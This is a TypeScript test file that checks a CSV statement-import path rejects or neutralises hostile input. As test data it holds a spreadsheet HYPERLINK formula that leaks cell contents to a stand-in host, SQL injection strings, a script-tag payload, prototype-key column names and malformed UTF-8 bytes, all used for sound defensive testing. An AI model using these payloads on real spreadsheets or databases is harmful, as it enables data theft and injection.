/**
 * Hostile input on the CSV import path (db/statements/import-check.ts into db/statements/import.ts)
 * and the data layer's write functions: every bad value is refused with a message naming its line
 * and column, every merely odd value is stored as the exact text given and survives export and
 * re-import unchanged, and nothing reaches the database unless the whole file is valid.
 */
import { stringify } from "csv-stringify/sync";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { importStatements } from "@/db/statements";
import { listCurrentStatements } from "@/db/statements";
import { createStatement } from "@/db/statements";
import { restoreFormula } from "@/lib/csv";
import { CSV_COLUMNS, parseStatementsCsv, type CsvColumn } from "@/db/statements/csv";
import { MAX_IMPORT_BYTES, MAX_IMPORT_ROWS, parseStatementImport } from "@/db/statements";
import { statementsToCsv } from "@/db/statements";
import { cleanText } from "@/lib/validation/fields";
import { FIELD_LIMITS } from "@/db/statements/validation";
import { BAD_DATES, CONTROL_CHARACTERS, HOSTILE_URLS, INERT_TEXT } from "../support/hostile-input";
import { createTestDb, type TestDb } from "../support/test-db";

// The real CSV parser behind a spy, so a test can see whether a file reached it at all.
vi.mock("@/db/statements/csv", async (importOriginal) => {
  const actual = await importOriginal<typeof import("@/db/statements/csv")>();
  return { ...actual, parseStatementsCsv: vi.fn(actual.parseStatementsCsv) };
});

const TODAY = "2026-06-01";
const TEXT_COLUMNS = ["conditions", "quote", "speaker", "source_title", "source_publisher", "note"] as const;
type TextColumn = (typeof TEXT_COLUMNS)[number];

const VALID: Record<CsvColumn, string> = {
  country: "EST",
  stated_on: "2025-09-04",
  stance: "troops",
  contributions: "ground;training",
  conditions: "after a ceasefire",
  quote: "Estland ist bereit.",
  quote_language: "de",
  speaker: "Kristen Michal",
  source_title: "A plain article",
  source_publisher: "Plain Press",
  source_url: "https://example.org/article",
  source_published_on: "2025-09-05",
  confidence: "high",
  note: "A plain note.",
};

/** A whole CSV file of the given rows, every column present, quoted as a spreadsheet would. */
function csvOf(rows: Partial<Record<CsvColumn, string>>[]): string {
  return stringify(
    rows.map((r) => CSV_COLUMNS.map((c) => r[c] ?? VALID[c])),
    { header: true, columns: [...CSV_COLUMNS] },
  );
}

const errorsOf = (file: string | Uint8Array): string[] => {
  const parsed = parseStatementImport(file, TODAY);
  return parsed.ok ? [] : parsed.errors;
};

/** What a text column reads as on the stored statement. */
function storedText(s: ReturnType<typeof listCurrentStatements>[number], column: TextColumn): string | null {
  if (column === "source_title") return s.source.title;
  if (column === "source_publisher") return s.source.publisher;
  return s[column];
}

describe("CSV import: values that must be stored as inert text", () => {
  let t: TestDb;
  beforeEach(() => (t = createTestDb("reference")));
  afterEach(() => t.close());

  it.each(TEXT_COLUMNS)("stores every hostile value verbatim in %s, and re-imports its export unchanged", (column) => {
    const payloads = Object.entries(INERT_TEXT);
    // One row per payload; the quote is made unique so no row is a duplicate of another.
    // Sources are matched by URL first, so the source columns are tested on sources without one.
    const rows = payloads.map(([name, value], i) => ({
      [column]: value,
      ...(column === "quote" ? {} : { quote: `row ${i}: ${name}` }),
      ...(column.startsWith("source_") ? { source_url: "" } : {}),
    }));
    const parsed = parseStatementImport(csvOf(rows), TODAY);
    if (!parsed.ok) throw new Error(parsed.errors.join("\n"));
    importStatements(t.db, parsed.rows, "hostile-test");

    const stored = listCurrentStatements(t.db);
    expect(stored).toHaveLength(payloads.length);
    const values = new Set(stored.map((s) => storedText(s, column)));
    // The format's one transformation besides trimming: an apostrophe before = + - @ is dropped
    // on import (exports add it to make formulas inert; see lib/csv.ts).
    for (const [name, value] of payloads) expect([...values], name).toContain(cleanText(restoreFormula(value)));

    // Export, import into a fresh database, export again: same bytes, same values.
    const exported = statementsToCsv(stored);
    const again = parseStatementImport(exported, TODAY);
    if (!again.ok) throw new Error(again.errors.join("\n"));
    const fresh = createTestDb("reference");
    try {
      importStatements(fresh.db, again.rows, "hostile-test");
      expect(statementsToCsv(listCurrentStatements(fresh.db))).toBe(exported);
    } finally {
      fresh.close();
    }
  });

  it("writes formula-like cells so that spreadsheets show them as text", () => {
    const parsed = parseStatementImport(csvOf([{ quote: INERT_TEXT["spreadsheet formula"]! }]), TODAY);
    if (!parsed.ok) throw new Error(parsed.errors.join("\n"));
    importStatements(t.db, parsed.rows, "hostile-test");
    const exported = statementsToCsv(listCurrentStatements(t.db));
    expect(exported).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
    expect(exported).not.toMatch(/(^|,)"?[=+@-]/m);
  });

  it("keeps SQL in values as data: every table is intact and holds exactly the rows written", () => {
    const sql = INERT_TEXT["SQL quote and comment"]!;
    const before = t.db.$client.prepare("select count(*) as n from countries").get() as { n: number };
    const created = createStatement(
      t.db,
      {
        countryIso3: "FRA",
        statedOn: "2025-09-04",
        statedOnPrecision: "day",
        stance: "troops",
        contributions: [],
        conditions: sql,
        quote: INERT_TEXT["SQL stacked statement"]!,
        quoteLanguage: null,
        speaker: INERT_TEXT["SQL tautology"]!,
        confidence: "high",
        note: sql,
        source: { title: sql, publisher: INERT_TEXT["SQL tautology"]!, url: null, publishedOn: null },
      },
      sql,
    );
    expect(created.current.quote).toBe(INERT_TEXT["SQL stacked statement"]);
    expect(created.current.recordedBy).toBe(sql);
    expect(t.db.$client.prepare("select count(*) as n from statements").get()).toEqual({ n: 1 });
    expect(t.db.$client.prepare("select count(*) as n from countries").get()).toEqual(before);
    expect(t.db.$client.pragma("integrity_check", { simple: true })).toBe("ok");
  });
});

describe("CSV import: values that must be refused, naming line and column", () => {
  type Case = [label: string, row: Partial<Record<CsvColumn, string>>, message: RegExp];
  const cases: Case[] = [
    ...TEXT_COLUMNS.flatMap((column) =>
      Object.entries(CONTROL_CHARACTERS).map(([name, value]): Case => [`${name} in ${column}`, { [column]: value }, new RegExp(`${column} contains a control character`)]),
    ),
    ...Object.entries(FIELD_LIMITS).map(([column, max]): Case => [
      `${column} one character over ${max}`,
      { [column]: column === "quote_language" ? `en-${"a".repeat(max - 2)}` : "é".repeat(max + 1) },
      new RegExp(`${column} is ${max + 1} characters long \\(max ${max}\\)`),
    ]),
    ...HOSTILE_URLS.map((url): Case => [`source_url ${JSON.stringify(url.slice(0, 40))}`, { source_url: url }, /source_url .*(is not an http\(s\) URL|characters long)/]),
    ...BAD_DATES.map((d): Case => [`stated_on ${d}`, { stated_on: d }, /stated_on .* is not a date/]),
    ...BAD_DATES.map((d): Case => [`source_published_on ${d}`, { source_published_on: d }, /source_published_on .* is not a date/]),
    ["stated_on in the future", { stated_on: "2099-01-01" }, /stated_on '2099-01-01' is in the future/],
    ["stated_on empty", { stated_on: "" }, /stated_on is required/],
    ["stance as a number", { stance: "1" }, /unknown stance '1'/],
    ["stance as a boolean", { stance: "true" }, /unknown stance 'true'/],
    ["stance as JSON", { stance: '["troops"]' }, /unknown stance/],
    ["stance with SQL", { stance: "troops'; --" }, /unknown stance/],
    ["confidence as a number", { confidence: "0" }, /unknown confidence '0'/],
    ["contributions with a number", { contributions: "ground;1" }, /unknown contribution '1'/],
    ["contributions as JSON", { contributions: '["ground"]' }, /unknown contribution/],
    ["country as a number", { country: "123" }, /unknown country '123'/],
    ["country with SQL", { country: "'; DROP TABLE countries; --" }, /unknown country/],
    ["country with markup", { country: "<script>alert(1)</script>" }, /unknown country/],
    ["quote_language with markup", { quote_language: "<b>" }, /quote_language '<b>' is not a language code/],
    ["quote_language with SQL", { quote_language: "en'; --" }, /quote_language .* is not a language code/],
    ["source_title empty", { source_title: "   " }, /source_title is required/],
  ];

  it.each(cases)("%s", (_label, row, message) => {
    const errors = errorsOf(csvOf([{ quote: "a valid first row" }, row]));
    expect(errors.length).toBeGreaterThan(0);
    expect(errors.every((e) => e.startsWith("line 3: ")), errors.join("\n")).toBe(true);
    expect(errors.join("\n")).toMatch(message);
  });

  it("accepts the boundaries: a leap day, the maximum lengths, characters beyond the BMP counted once", () => {
    const row = {
      stated_on: "2024-02-29",
      source_published_on: "2024-02-29",
      quote: "𝔘".repeat(FIELD_LIMITS.quote),
      note: "é".repeat(FIELD_LIMITS.note),
      source_url: `https://example.org/${"a".repeat(2000 - "https://example.org/".length)}`,
    };
    expect(errorsOf(csvOf([row]))).toEqual([]);
  });
});

describe("CSV import: files that must be refused as a whole", () => {
  const header = `${CSV_COLUMNS.join(",")}\n`;
  const goodRow = "EST,2025-09-04,troops,,,,,,Title,,,,,\n";
  const bytes = (...parts: (string | number[])[]) =>
    Buffer.concat(parts.map((p) => (typeof p === "string" ? Buffer.from(p, "utf8") : Buffer.from(p))));

  it.each([
    ["an invalid byte", 2, bytes(header, "EST,2025-09-04,troops,,,,,,Title ", [0xff, 0xfe], ",,,,,\n")],
    ["an overlong encoding of '/'", 2, bytes(header, "EST,2025-09-04,troops,,,,,,Title ", [0xc0, 0xaf], ",,,,,\n")],
    ["a truncated multi-byte character", 2, bytes(header, "EST,2025-09-04,troops,,,,,,Title ", [0xe2, 0x82], ",,,,,\n")],
    ["an encoded surrogate (CESU-8)", 2, bytes(header, "EST,2025-09-04,troops,,,,,,Title ", [0xed, 0xa0, 0x80], ",,,,,\n")],
    ["Latin-1 text", 2, bytes(header, "EST,2025-09-04,troops,,,,,,Z", [0xfc], "rich,,,,,\n")],
    ["Latin-1 text after good rows and CRLF, CR breaks", 5, bytes(header, goodRow, "EST,2025-09-05,troops,,,,,,T,,,,,\r\n", "EST,2025-09-06,troops,,,,,,T,,,,,\r", "EST,2025-09-07,troops,,,,,,Z", [0xfc], "rich,,,,,\n")],
    ["a bad byte inside a quoted multi-line cell", 4, bytes(header, 'EST,2025-09-04,troops,,"one\ntwo\n', [0xff], '",,,,Title,,,,,\n')],
    ["UTF-16 with BOM", 1, Buffer.from(`\ufeff${header}${goodRow}`, "utf16le")],
    ["a PNG image", 1, bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d])],
  ])("refuses a file with %s as not UTF-8, naming line %i", (_label, line, file) => {
    expect(errorsOf(file)).toEqual([`file is not valid UTF-8 (line ${line}); save it as UTF-8`]);
  });

  it.each([
    ["recorded_by", "an attempt to set the author"],
    ["approved_by", "an attempt to set the approver"],
    ["approved_at", "an attempt to set the approval time"],
    ["id", "an attempt to set the id"],
    ["status", "an attempt to publish or retract"],
    ["__proto__", "a prototype key"],
    ["constructor", "a prototype key"],
  ])("refuses an unknown column %s (%s)", (column) => {
    const errors = errorsOf(`${CSV_COLUMNS.join(",")},${column}\nEST,2025-09-04,troops,,,,,,Title,,,,,,x\n`);
    expect(errors).toEqual([`unknown column '${column}' (expected ${CSV_COLUMNS.join(", ")})`]);
  });

  it("refuses a repeated column, a missing required column, a short row, an empty file", () => {
    expect(errorsOf("country,country,stated_on,stance,source_title\n")).toEqual(["column 'country' appears more than once"]);
    expect(errorsOf("country,stated_on,stance\nEST,2025-09-04,troops\n")).toEqual(["missing required column: source_title"]);
    expect(errorsOf(`${header}EST,2025-09-04\n`)[0]).toMatch(new RegExp(`^line 2: 2 fields, but the header has ${CSV_COLUMNS.length}`));
    expect(errorsOf("")).toEqual(["file is empty (expected a header row)"]);
    expect(errorsOf(header)).toEqual(["the file has a header but no rows"]);
  });

  it("refuses a file over the size limit before parsing it, or reading a byte of it", () => {
    const parser = vi.mocked(parseStatementsCsv);
    parser.mockClear();
    expect(errorsOf(csvOf([{}]))).toEqual([]);
    expect(parser).toHaveBeenCalledTimes(1); // the spy sees the files that are parsed
    parser.mockClear();
    // Bytes behind a proxy that records what is touched: the size may be asked, nothing else (a
    // read of any byte throws at once, so reading the file fails fast instead of slowly).
    const touched = new Set<string | symbol>();
    const huge = new Proxy(new Uint8Array(MAX_IMPORT_BYTES + 1), {
      get(target, key) {
        if (typeof key === "string" && /^\d+$/.test(key)) throw new Error(`byte ${key} of the oversize file was read`);
        touched.add(key);
        const value = Reflect.get(target, key, target) as unknown;
        return typeof value === "function" ? (value as (...a: unknown[]) => unknown).bind(target) : value;
      },
    });
    expect(errorsOf(huge)).toEqual([`the file is ${MAX_IMPORT_BYTES + 1} bytes; at most ${MAX_IMPORT_BYTES} bytes (100 MiB) are imported at once`]);
    expect([...touched]).toEqual(["byteLength"]);
    expect(errorsOf("é".repeat(MAX_IMPORT_BYTES / 2 + 1))[0]).toMatch(/^the file is \d+ bytes/);
    expect(parser).not.toHaveBeenCalled();
  });

  it("refuses a file with more rows than the limit", { timeout: 60_000 }, () => {
    const file = "country,stated_on,stance,source_title\n" + "EST,2025-09-04,troops,t\n".repeat(MAX_IMPORT_ROWS + 1);
    expect(errorsOf(file)).toEqual([`the file has ${MAX_IMPORT_ROWS + 1} rows; at most ${MAX_IMPORT_ROWS} are imported at once`]);
  });
});
